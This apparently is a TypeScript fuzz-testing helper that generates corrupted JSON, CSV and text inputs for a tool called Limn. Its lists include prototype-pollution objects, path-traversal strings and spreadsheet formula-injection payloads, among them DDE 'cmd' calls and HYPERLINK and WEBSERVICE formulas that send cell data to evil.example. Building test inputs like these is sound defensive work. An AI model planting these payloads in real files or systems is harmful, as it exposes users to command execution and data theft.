import * as fc from 'fast-check';

/** What a file of Limn's is spoiled with: whatever JSON, CSV and JavaScript make something of. */
const spoilers = [
	'{"__proto__":{"polluted":true}}',
	'{"constructor":{"prototype":{"polluted":true}}}',
	'"__proto__"',
	'__proto__',
	'{"toString":1,"hasOwnProperty":null,"length":-1}',
	'[[[[[[[[',
	'null',
	'NaN',
	'1e999',
	'-0',
	'""',
	'{}',
	'[]',
	'true',
	'\u0000',
	'\ufeff',
	'\ud800',
	'"',
	',',
	';',
	'\n',
	'\r',
	'\t',
	"=cmd|' /C calc'!A0",
	'version',
	'"version":99',
	'file:////etc/passwd',
	'command:limn.generateImage',
	'../../../x',
];

/** A sound text, cut up and with something else in it; or nothing sound at all. */
export function spoiled(sound: string): fc.Arbitrary<string> {
	const cut = fc.tuple(fc.nat(sound.length), fc.nat(60), fc.constantFrom(...spoilers), fc.boolean());
	const wounds = fc.array(cut, { maxLength: 4 }).map((all) => all.reduce(wounded, sound));
	const noise = fc.uint8Array({ maxLength: 400 }).map((bytes) => Buffer.from(bytes).toString('latin1'));
	return fc.oneof(
		{ weight: 6, arbitrary: wounds },
		noise,
		fc.json({ maxDepth: 6 }).map((json) => `${json}\n${sound}`),
	);
}

function wounded(text: string, [at, length, spoiler, isValue]: readonly [number, number, string, boolean]): string {
	// In the place of a whole value the text may still be JSON.
	if (isValue) return text.replace(/:("[^"]*"|\d+)/, (found) => (at % 2 === 0 ? `:${spoiler}` : found));
	return text.slice(0, at) + spoiler + text.slice(at + length);
}

/** Too much of everything: nesting, length, lines. */
export const huge: readonly string[] = [
	'['.repeat(100_000),
	`${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
	`{"prompt":"${'x'.repeat(8 * 2 ** 20)}"}`,
	'x'.repeat(20 * 2 ** 20),
	'\n'.repeat(2 ** 20),
	'{}\n'.repeat(20_000),
	'","'.repeat(300_000),
	`"${'"'.repeat(100_001)}`,
	'\0'.repeat(2 ** 20),
	`{"__proto__":${'{"__proto__":'.repeat(5000)}1${'}'.repeat(5000)}}`,
];

const beginnings = [
	'=',
	'+',
	'-',
	'@',
	'\t',
	'\r',
	'\n',
	' =',
	'\u00a0=',
	'\ufeff=',
	'＝',
	'＋',
	'－',
	'＠',
	"'=",
	'"=',
];
const calls = [
	'1+1',
	"cmd|' /C calc'!A0",
	'HYPERLINK("https://evil.example/?x="&A1,"click")',
	'WEBSERVICE("https://evil.example/"&A1)',
	'IMPORTXML("https://evil.example","//a")',
	'DDE("cmd";"/C calc";"__DdeLink")',
	"SUM(A1:A9)*cmd|' /C calc'!A0",
	"2+5+cmd|' /C calc'!D2",
	"rundll32|'URL.dll,OpenURL calc.exe'!A",
	'A1,=1+1',
];

/** What a spreadsheet would reckon with. */
export const formulas: readonly string[] = beginnings.flatMap((beginning) => calls.map((call) => beginning + call));
